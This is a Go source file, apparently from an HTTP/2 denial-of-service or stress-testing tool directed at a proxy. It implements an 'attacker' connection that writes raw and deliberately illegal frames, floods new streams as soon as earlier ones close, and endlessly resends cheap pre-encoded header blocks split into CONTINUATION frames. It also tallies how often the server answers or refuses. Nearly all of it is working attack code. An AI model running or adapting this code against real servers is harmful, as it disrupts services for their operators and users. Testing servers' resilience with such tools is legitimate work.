package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is an HTTP/2 connection on which the attacker writes frames as they please.
type frames struct {
	attacker *attacker
	conn     net.Conn

	mu      sync.Mutex // of what is written
	framer  *http2.Framer
	encoded bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32

	free   chan struct{} // one for each stream that may be opened
	closed chan struct{}
	// begun is called when an answer begins; nil for nothing.
	begun atomic.Pointer[func(stream uint32)]
}

func (a *attacker) open(ctx context.Context, settings ...http2.Setting) (*frames, error) {
	conn, err := a.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	f := &frames{
		attacker: a,
		conn:     conn,
		framer:   http2.NewFramer(conn, conn),
		stream:   ^uint32(0),
		free:     make(chan struct{}, attackStreams),
		closed:   make(chan struct{}),
	}
	f.framer.AllowIllegalWrites = true
	f.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	f.encoder = hpack.NewEncoder(&f.encoded)
	for range attackStreams {
		f.free <- struct{}{}
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		_ = conn.Close()
		return nil, err
	}
	if err := f.framer.WriteSettings(settings...); err != nil {
		_ = conn.Close()
		return nil, err
	}
	go f.read()
	return f, nil
}

// read counts answers until the connection ends.
func (f *frames) read() {
	defer close(f.closed)
	defer f.conn.Close() //nolint:errcheck // it ends in any case
	for {
		frame, err := f.framer.ReadFrame()
		if err != nil {
			f.attacker.closed.Add(1)
			return
		}
		ended := false
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				f.write(f.framer.WriteSettingsAck)
			}
		case *http2.PingFrame:
			if !frame.IsAck() {
				f.write(func() error { return f.framer.WritePing(true, frame.Data) })
			}
		case *http2.MetaHeadersFrame:
			switch frame.PseudoValue("status") {
			case "429", "503":
				f.attacker.refused.Add(1)
			default:
				f.attacker.answered.Add(1)
			}
			ended = frame.StreamEnded()
			if begun := f.begun.Load(); begun != nil {
				(*begun)(frame.StreamID)
			}
		case *http2.DataFrame:
			ended = frame.StreamEnded()
		case *http2.RSTStreamFrame:
			ended = true
		case *http2.GoAwayFrame:
			return
		}
		if ended {
			select {
			case f.free <- struct{}{}:
			default:
			}
		}
	}
}

func (f *frames) write(what func() error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	_ = what() // the reader finds out
}

// field is a header.
type field = [2]string

// request sends one, with a body unless it is nil, and returns its stream.
func (f *frames) request(method, path string, body []byte, fields ...field) (uint32, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.encoded.Reset()
	all := append([]field{{":method", method}, {":scheme", "https"}, {":authority", "proxy"}, {":path", path}}, fields...)
	for _, one := range all {
		if err := f.encoder.WriteField(hpack.HeaderField{Name: one[0], Value: one[1]}); err != nil {
			return 0, err
		}
	}
	f.stream += 2 // a client's are odd
	block, first := f.encoded.Bytes(), true
	for first || len(block) > 0 {
		part := block[:min(len(block), 16<<10)]
		block = block[len(part):]
		var err error
		if first {
			err = f.framer.WriteHeaders(
				http2.HeadersFrameParam{
					StreamID:      f.stream,
					BlockFragment: part,
					EndHeaders:    len(block) == 0,
					EndStream:     body == nil,
				},
			)
		} else {
			err = f.framer.WriteContinuation(f.stream, len(block) == 0, part)
		}
		if err != nil {
			return 0, err
		}
		first = false
	}
	f.attacker.requests.Add(1)
	for body != nil {
		part := body[:min(len(body), 16<<10)]
		if body = body[len(part):]; len(body) == 0 {
			body = nil
		}
		if err := f.framer.WriteData(f.stream, body == nil, part); err != nil {
			return 0, err
		}
	}
	return f.stream, nil
}

// flood opens a stream whenever one is free, until the connection ends.
func (f *frames) flood(ctx context.Context, request func() error) error {
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-f.closed:
			return nil
		case <-f.free:
			if err := request(); err != nil {
				return err
			}
		}
	}
}

// hold keeps the connection until ctx or the connection ends.
func (f *frames) hold(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-f.closed:
	}
}

func isOver(closed <-chan struct{}) bool {
	select {
	case <-closed:
		return true
	default:
		return false
	}
}

// send writes what was encoded before, for as long as the connection takes it. It returns how often.
func (f *frames) send(ctx context.Context, content []byte) int64 {
	for times := int64(0); ; times++ {
		select {
		case <-ctx.Done():
			return times
		case <-f.closed:
			return times
		default:
		}
		var err error
		f.write(func() error {
			_, err = f.conn.Write(content)
			return err
		})
		if err != nil {
			return times
		}
	}
}

// begin begins a request whose body is on its way, and returns its stream.
func (f *frames) begin(method, path string, fields ...field) (uint32, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	block := headerBlock(append([]field{
		{":method", method}, {":scheme", "https"}, {":authority", "proxy"}, {":path", path},
	}, fields...)...)
	f.stream += 2
	f.attacker.requests.Add(1)
	return f.stream, f.framer.WriteHeaders(
		http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block, EndHeaders: true},
	)
}

// block sends a request whose header was encoded before, so that it costs the attacker nothing to encode.
func (f *frames) block(block []byte) error {
	const most = 16 << 10
	f.mu.Lock()
	defer f.mu.Unlock()
	f.stream += 2
	f.attacker.requests.Add(1)
	n := min(most, len(block))
	err := f.framer.WriteHeaders(
		http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block[:n], EndStream: true, EndHeaders: n == len(block)},
	)
	for block = block[n:]; err == nil && len(block) > 0; block = block[n:] {
		n = min(most, len(block))
		err = f.framer.WriteContinuation(f.stream, n == len(block), block[:n])
	}
	return err
}

// headerBlock encodes fields without a table, so that the block is good on each connection and at any time.
func headerBlock(fields ...field) []byte {
	var block []byte
	text := func(s string) {
		block = append(appendInteger(block, 0, 7, len(s)), s...)
	}
	for _, one := range fields {
		block = append(block, 0) // literal without indexing, with a new name
		text(one[0])
		text(one[1])
	}
	return block
}

// appendInteger encodes n with a prefix of so many bits, below the bits of first.
func appendInteger(block []byte, first byte, bits, n int) []byte {
	most := 1<<bits - 1
	if n < most {
		return append(block, first|byte(n))
	}
	block = append(block, first|byte(most))
	for n -= most; n >= 1<<7; n >>= 7 {
		block = append(block, byte(n)|1<<7)
	}
	return append(block, byte(n))
}
